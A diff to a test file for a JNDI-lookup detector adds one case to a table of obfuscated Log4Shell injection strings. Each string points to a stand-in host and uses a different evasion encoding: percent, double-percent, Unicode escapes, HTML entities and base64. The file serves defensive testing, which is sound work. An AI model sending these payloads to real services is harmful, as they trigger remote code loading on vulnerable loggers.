@@ -19,6 +19,7 @@ describe('the detector of JNDI lookups', () => {
     ['inside other text', 'Mozilla/5.0 {"a": "${jndi:ldap://x.example/a}"} '],
     ['percent encoded', '%24%7Bjndi:ldap://x.example/a%7D'],
     ['percent encoded twice', '%2524%257Bjndi%253Aldap%253A%252F%252Fx.example%252Fa%257D'],
+    ['with an encoded bracket alone', '$%7Bjndi:ldap://x.example/a}'],
     ['with Unicode escapes', '\\u0024\\u007bjndi:ldap:\\u002f/x.example/a}'],
     ['with HTML entities', '&#36;&#123;jndi:ldap://x.example/a&#x7d;'],
     ['as base64 of a Basic login', `Basic ${Buffer.from('${jndi:ldap://x.example/a}:pw').toString('base64')}`],
